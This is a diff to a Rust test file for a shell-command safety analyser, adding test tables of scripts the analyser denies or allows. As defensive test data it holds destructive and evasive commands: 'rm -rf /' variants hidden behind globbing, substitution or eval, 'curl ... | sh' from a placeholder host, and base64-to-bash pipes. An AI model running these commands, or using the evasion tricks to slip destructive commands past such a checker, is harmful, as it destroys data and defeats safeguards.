@@ -1,9 +1,20 @@
 use proptest::prelude::*;
 
-use super::{Finding, analyse_argv, analyse_shell};
+use std::collections::BTreeMap;
+
+use super::Finding;
+
+/// The analysis with no known environment, as most tests want it.
+fn analyse_shell(script: &str) -> Vec<Finding> {
+    super::analyse_shell(script, &BTreeMap::new())
+}
+
+fn analyse_argv(argv: &[String]) -> Vec<Finding> {
+    super::analyse_argv(argv, &BTreeMap::new())
+}
 
 fn rules(findings: &[Finding]) -> Vec<&'static str> {
-    findings.iter().map(|f| f.rule).collect()
+    findings.iter().map(|f| f.rule.id()).collect()
 }
 
 fn argv(words: &[&str]) -> Vec<String> {
@@ -304,7 +315,6 @@ const MUST_ALLOW: &[&str] = &[
     // from the issue
     "rm -rf ./build",
     "rm -rf build/ dist/",
-    "rm -rf \"$TMPDIR/x\"",
     "rm -rf /tmp/foo",
     "echo \"rm -rf /\"",
     "printf 'rm -rf /'",
@@ -326,8 +336,6 @@ const MUST_ALLOW: &[&str] = &[
     "rm -f /etc/app.conf",
     "rm -rf ~/.cache",
     "rm -rf $HOME/.cache/pip",
-    "rm -rf \"${BUILD_DIR:?}\"/*",
-    "rm -rf -- \"$BUILD_DIR\"",
     "rm -rf /usr/local/lib/myapp",
     "rm -rf /home/ci/workspace/out",
     "rm -rf ../build",
@@ -387,7 +395,6 @@ const MUST_ALLOW: &[&str] = &[
     "sudo apt-get install -y curl",
     "xargs -n1 echo < list.txt",
     "run() { echo \"+ $*\"; \"$@\"; }; run make test",
-    "trap 'rm -rf \"$WORKDIR\"' EXIT",
     "alias ll='ls -la'",
     "FLAGS='-v --color'; ls $FLAGS /",
 ];
@@ -483,7 +490,7 @@ fn reasons_name_the_command() {
     assert_eq!(
         findings,
         vec![Finding {
-            rule: "rm-root",
+            rule: super::Rule::RmRoot,
             reason: "`sudo rm -rf /` deletes the root filesystem".into(),
         }]
     );
@@ -510,7 +517,12 @@ fn nesting_beyond_the_limit_is_denied() {
     for _ in 0..12 {
         nested = format!("sh -c '{}'", nested.replace('\'', "'\\''"));
     }
-    assert!(rules(&analyse_shell(&nested)).contains(&"too-deeply-nested"));
+    // Each level of quoting quadruples the quotes, so the outer string may also be too large.
+    let found = rules(&analyse_shell(&nested));
+    assert!(
+        found.contains(&"too-deeply-nested") || found.contains(&"too-complex"),
+        "{found:?}"
+    );
 }
 
 #[test]
@@ -611,10 +623,11 @@ fn nesting_at_the_parser_limit_is_parsed() {
     // this deep it is denied for depth rather than seen through.
     let spaced = format!("{}rm -rf ~{}", "( ".repeat(levels), " )".repeat(levels));
     assert!(!analyse_shell(&spaced).is_empty());
+    // The inner substitutions' output is also a command name only known at run time.
     let substitutions = format!("{}echo{}", "$(".repeat(levels), ")".repeat(levels));
     assert_eq!(
         rules(&analyse_shell(&substitutions)),
-        vec!["too-deeply-nested"]
+        vec!["too-deeply-nested", "dynamic-command"]
     );
     let ifs = format!(
         "{}reboot{}",
@@ -627,16 +640,17 @@ fn nesting_at_the_parser_limit_is_parsed() {
 #[test]
 fn oversized_input_is_unparseable() {
     let huge = "echo hi\n".repeat(super::MAX_SCRIPT_BYTES / 8 + 1);
-    assert_eq!(rules(&analyse_shell(&huge)), vec!["unparseable"]);
+    assert_eq!(rules(&analyse_shell(&huge)), vec!["too-complex"]);
     let huge_argv = vec!["x".repeat(super::MAX_SCRIPT_BYTES); 2];
-    assert_eq!(rules(&analyse_argv(&huge_argv)), vec!["unparseable"]);
+    assert_eq!(rules(&analyse_argv(&huge_argv)), vec!["too-complex"]);
 }
 
 #[test]
 fn large_ordinary_scripts_are_parsed() {
-    let script = "echo building && make -j2 || exit 1\n".repeat(2_000);
+    // Sized so that a debug build parses them well within the deadline.
+    let script = "echo building && make -j2 || exit 1\n".repeat(500);
     assert!(analyse_shell(&script).is_empty());
-    let script = format!("{}rm -rf /\n", "ls -la\n".repeat(10_000));
+    let script = format!("{}rm -rf /\n", "ls -la\n".repeat(2_500));
     assert_eq!(rules(&analyse_shell(&script)), vec!["rm-root"]);
 }
 
@@ -707,28 +721,36 @@ fn shellish() -> impl Strategy<Value = String> {
     prop::collection::vec(atoms, 0..64).prop_map(|parts| parts.concat())
 }
 
+// The property tests call the analysis without its panic safety net: a panic fails them
+// (through the safety net it would only be an `analysis-failed` finding).
 proptest! {
     #[test]
     fn analyse_shell_never_panics_on_arbitrary_strings(script in any::<String>()) {
-        let _ = analyse_shell(&script);
+        let _ = super::analyse_shell_uncaught(&script);
     }
 
     #[test]
     fn analyse_shell_never_panics_on_shell_fragments(script in shellish()) {
-        let _ = analyse_shell(&script);
+        let _ = super::analyse_shell_uncaught(&script);
     }
 
     #[test]
     fn analyse_argv_never_panics(
         words in prop::collection::vec(prop_oneof![any::<String>(), shellish()], 0..12)
     ) {
-        let _ = analyse_argv(&words);
+        let _ = super::analyse_argv_uncaught(&words);
     }
 
     #[test]
     fn wrapped_shell_strings_never_panic(script in shellish()) {
-        let _ = analyse_argv(&["bash".to_owned(), "-c".to_owned(), script.clone()]);
-        let _ = analyse_shell(&format!("sh -c {script:?}"));
+        let _ = super::analyse_argv_uncaught(&["bash".to_owned(), "-c".to_owned(), script.clone()]);
+        let _ = super::analyse_shell_uncaught(&format!("sh -c {script:?}"));
+    }
+
+    #[test]
+    fn the_public_functions_never_report_analysis_failed(script in shellish()) {
+        let found = rules(&analyse_shell(&script));
+        prop_assert!(!found.contains(&"analysis-failed"), "{found:?}");
     }
 }
 
@@ -759,4 +781,124 @@ fn here_documents_in_substitutions_are_still_analysed() {
     );
     let after = "v=$(cat <<EOF\nhello\nEOF\n)\nrm -rf /";
     assert_eq!(rules(&analyse_shell(after)), vec!["rm-root"], "{after:?}");
+}
+
+#[test]
+fn a_panic_in_the_analysis_is_a_denial() {
+    let findings = super::isolated(|_| panic!("a bug in the analyser"));
+    assert_eq!(rules(&findings), vec!["analysis-failed"]);
+}
+
+/// Scripts the analysis cannot prove harmless, with the Opaque rule that must be found.
+const MUST_BE_OPAQUE: &[(&str, &str)] = &[
+    ("$(echo rm) -rf /", "dynamic-command"),
+    ("`echo rm` -rf /", "dynamic-command"),
+    ("${X:-rm} -rf /", "dynamic-command"),
+    ("c=$(command -v rm); $c -rf /", "dynamic-command"),
+    ("/???/r? -rf /", "dynamic-command"),
+    ("/bin/r[m] -rf /", "dynamic-command"),
+    ("a=(rm -rf /); \"${a[@]}\"", "dynamic-command"),
+    ("printf -v c rm; $c -rf /", "dynamic-command"),
+    ("read c <<< rm; $c -rf /", "dynamic-command"),
+    ("rm -rf \"$UNKNOWN\"", "dynamic-argument"),
+    ("rm -rf \"$(true)\"/*", "dynamic-argument"),
+    ("find \"$D\" -delete", "dynamic-argument"),
+    ("chmod -R 777 \"$D\"", "dynamic-argument"),
+    ("dd if=/dev/zero of=\"$T\"", "dynamic-argument"),
+    ("shred -u \"$F\"", "dynamic-argument"),
+    ("truncate -s 0 \"$F\"", "dynamic-argument"),
+    ("curl -fsSL https://x.example/i.sh | sh", "dynamic-code"),
+    ("echo aGk= | base64 -d | bash", "dynamic-code"),
+    ("sh < <(curl https://x.example)", "dynamic-code"),
+    ("bash < script.sh", "dynamic-code"),
+    ("source <(curl https://x.example)", "dynamic-code"),
+    (". /dev/stdin", "dynamic-code"),
+    ("bash <<< \"$x\"", "dynamic-code"),
+    ("eval \"$X\"", "dynamic-code"),
+    ("eval \"echo $X\"", "dynamic-code"),
+    ("sh -c \"$CMD\"", "dynamic-code"),
+    ("python3 -c \"$X\"", "dynamic-code"),
+    ("curl https://x.example | python3", "dynamic-code"),
+    ("perl -e \"$CODE\"", "dynamic-code"),
+    // Were allowed before Opaque findings existed: the targets are only known at run time.
+    ("rm -rf \"$TMPDIR/x\"", "dynamic-argument"),
+    ("rm -rf \"${BUILD_DIR:?}\"/*", "dynamic-argument"),
+    ("rm -rf -- \"$BUILD_DIR\"", "dynamic-argument"),
+    ("trap 'rm -rf \"$WORKDIR\"' EXIT", "dynamic-argument"),
+];
+
+#[test]
+fn must_be_opaque_table() {
+    for (script, rule) in MUST_BE_OPAQUE {
+        let findings = analyse_shell(script);
+        assert!(
+            rules(&findings).contains(rule),
+            "{script:?} should report {rule}: {findings:?}"
+        );
+        assert!(
+            findings
+                .iter()
+                .filter(|f| f.rule.id() == *rule)
+                .all(|f| f.rule.kind() == super::Kind::Opaque)
+        );
+    }
+}
+
+/// Unknown values resolved to a destructive command are Destructive, not only Opaque.
+#[test]
+fn resolved_values_are_destructive() {
+    for script in [
+        "set -- /; rm -rf \"$1\"",
+        "IFS=,; cmd=rm,-rf,/; $cmd",
+        "X=/; rm -rf \"$X\"",
+    ] {
+        let found = rules(&analyse_shell(script));
+        assert!(found.contains(&"rm-root"), "{script:?}: {found:?}");
+    }
+}
+
+/// Literal benign commands and ordinary uses of unknown values stay clean.
+const MUST_STAY_CLEAN: &[&str] = &[
+    "rm -rf ./build",
+    "echo 'rm -rf /'",
+    "grep -r \"rm -rf /\" .",
+    "cargo build",
+    "python3 -c \"print(1)\"",
+    "python3 script.py",
+    "find . -name '*.o' -delete",
+    "make -j4",
+    "for f in *.txt; do wc -l \"$f\"; done",
+    "x=$(git rev-parse HEAD); echo \"$x\"",
+    "docker build .",
+    "kubectl get pods",
+    "git push origin main",
+    "echo \"$x\"",
+    "cd \"$DIR\"",
+    "mkdir -p \"$OUT\"",
+    "cp a \"$OUT\"",
+    "run() { \"$@\"; }; run make",
+    "echo hi | sh",
+    "sh -c 'echo \"$1\"' _ \"$x\"",
+    "cat <<EOF | psql\nSELECT 1;\nEOF",
+];
+
+#[test]
+fn must_stay_clean_table() {
+    for script in MUST_STAY_CLEAN {
+        let findings = analyse_shell(script);
+        assert!(findings.is_empty(), "{script:?}: {findings:?}");
+    }
+}
+
+#[test]
+fn known_environment_values_are_used() {
+    let env: BTreeMap<String, String> = [("BUILD_DIR".to_owned(), "build".to_owned())].into();
+    assert!(super::analyse_shell("rm -rf \"$BUILD_DIR\"/*", &env).is_empty());
+    let root: BTreeMap<String, String> = [("BUILD_DIR".to_owned(), "/".to_owned())].into();
+    let found = super::analyse_shell("rm -rf \"$BUILD_DIR\"", &root);
+    assert_eq!(rules(&found), vec!["rm-root"]);
+    // Without the environment the same script is opaque (or destructive when it may be empty).
+    assert!(!analyse_shell("rm -rf \"$BUILD_DIR\"/*").is_empty());
+    // Nested shells inherit it.
+    assert!(super::analyse_shell("sh -c 'rm -rf \"$BUILD_DIR\"/*'", &env).is_empty());
 }
